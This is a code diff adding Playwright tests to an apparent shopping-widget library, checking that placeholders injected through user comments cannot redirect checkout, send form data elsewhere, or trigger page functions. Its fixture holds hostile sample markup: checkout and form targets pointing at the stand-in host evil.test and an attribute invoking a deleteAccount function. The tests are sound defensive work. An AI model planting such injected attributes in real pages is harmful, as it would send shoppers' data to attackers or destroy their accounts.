@@ -1,6 +1,6 @@
 import type { Page } from '@playwright/test';
-import { cart, icon, openHost, script } from './hosts.ts';
-import { addButton, badge, expect, test } from './support.ts';
+import { cart, icon, openHost, painted, script } from './hosts.ts';
+import { addButton, badge, expect, openSheet, sheet, storedCart, test, total } from './support.ts';
 
 const placeholders = (page: Page) => page.locator('[data-wellness]');
 
@@ -62,6 +62,97 @@ test('a thousand placeholders added at once, among ten thousand other nodes, are
   expect(seen.map(({ rendered }) => rendered)).toEqual([1_000, 1_000]);
   // Not much more than as elements; an observer that looks at all of the page for each would take minutes.
   expect(seen[1].took).toBeLessThan(3 * seen[0].took + 500);
+});
+
+/** As sanitizers leave it that keep `data-*`. */
+const comments = `<p>Nice!</p>
+  <div data-wellness="product-card" data-product-id="nmn-plus" data-price="0" data-availability="consult" data-modal-function="deleteAccount"></div>
+  <div data-wellness="cart-button" data-persistence="none" data-checkout-url="https://evil.test/{items}" id="theirs"></div>
+  <div data-wellness="contact-form" data-action="https://evil.test/"></div>
+  <div data-wellness="get-started" data-label="Begin" data-modal-function="deleteAccount"></div>`;
+const account = '<script>function deleteAccount() { window.deleted = true }</script>';
+const late = (page: Page) =>
+  page.evaluate((html) => void document.body.insertAdjacentHTML('beforeend', html), comments);
+
+for (const [what, html, act] of [
+  [
+    'on a page with data-wellness-guard',
+    `<html data-wellness-guard>${icon}${account}<body>${cart}${comments}`,
+    undefined,
+  ],
+  ['that came after the page had loaded', `${icon}${account}<body>${cart}`, late],
+] as const)
+  test(`strangers’ placeholders ${what} lead nowhere, call nothing and change nothing that is kept`, async ({
+    page,
+    complaints,
+  }) => {
+    const away: string[] = [];
+    page.on('request', (request) => request.url().includes('evil') && away.push(request.url()));
+    await openHost(page, { html: html + script() });
+    await act?.(page);
+    await addButton(page, 'NMN+').click();
+    await page.getByRole('button', { name: 'Begin' }).click();
+    await expect(page.locator('wellness-get-started [part=unavailable]')).toBeVisible();
+    expect(await page.evaluate('window.deleted')).toBe(undefined);
+
+    await page.getByLabel('Name').fill('Ada');
+    await page.getByLabel('Email').fill('ada@example.com');
+    await page.getByLabel('Message').fill('Hello');
+    await page.getByRole('button', { name: 'Send' }).click();
+    await expect(page.locator('wellness-contact-form')).toContainText('not connected');
+
+    await page.locator('#theirs [part=button]').click();
+    await expect(total(page)).toHaveText('$89.00');
+    await sheet(page).getByRole('button', { name: 'Checkout' }).click();
+    await expect(sheet(page)).toContainText('not connected');
+    await expect.poll(() => storedCart(page)).toEqual({ 'nmn-plus': 1 });
+    expect(away).toEqual([]);
+    expect(complaints.map((line) => line.split(': a stranger')[0])).toEqual(
+      [
+        '<wellness-product-card>: left out "data-price", "data-availability", "data-modal-function"',
+        '<wellness-cart-button>: left out "data-checkout-url", "data-persistence"',
+        '<wellness-contact-form>: left out "data-action"',
+        '<wellness-get-started>: left out "data-modal-function"',
+      ].map((line) => `warning: ${line} of a placeholder ${what}`),
+    );
+    complaints.length = 0;
+  });
+
+test('what the page itself adds while it loads, or mounts, takes all that it says', async ({ page }) => {
+  const tea = (name: string) =>
+    `<div data-wellness="product-card" data-product-id="${name}" data-name="${name}" data-price="2"></div>`;
+  await openHost(page, {
+    html: `${icon}<body>${cart}${tea('Written')}<div id="root"></div>${script()}
+      <script type="module">document.body.insertAdjacentHTML('beforeend', '${tea('Loading')}')</script>`,
+  });
+  await page.evaluate((html) => {
+    const root = document.getElementById('root') as HTMLElement;
+    root.innerHTML = html;
+    window.wellness.mount(root);
+  }, tea('Mounted'));
+  for (const name of ['Written', 'Loading', 'Mounted']) await addButton(page, name).click();
+  await openSheet(page);
+  await expect(total(page)).toHaveText('$6.00');
+});
+
+test('in data-wellness-off nothing is touched, told or done', async ({ page }) => {
+  const off = `${comments}<wellness-product-card product-id="nmn-plus"></wellness-product-card>
+    <wellness-cart-button persistence="none" open></wellness-cart-button><wellness-nothing></wellness-nothing>`;
+  await openHost(page, {
+    html: `${icon}<body>${cart}<wellness-product-card product-id="immune-support"></wellness-product-card>
+      <section id="off" data-wellness-off>${off}</section>${script()}`,
+  });
+  const before = await page.locator('#off').innerHTML();
+  await page.evaluate(() => window.wellness.mount('#off'));
+  await addButton(page, 'Immune Support').click();
+  await expect(badge(page)).toHaveText('1');
+  await expect.poll(() => storedCart(page)).toEqual({ 'immune-support': 1 });
+  await expect(addButton(page, 'NMN+')).toHaveCount(0);
+  await expect(sheet(page)).toHaveCount(0);
+  expect(await page.locator('#off').innerHTML()).toBe(before);
+  await page.evaluate((html) => void document.querySelector('#off p')?.insertAdjacentHTML('beforeend', html), off);
+  await painted(page);
+  await expect(page.locator('#off [data-wellness]')).toHaveCount(8);
 });
 
 /** Put out by the filters of WordPress 6.1 itself: wp_kses() as for an author, wptexturize() and wpautop() as in a classic post. */
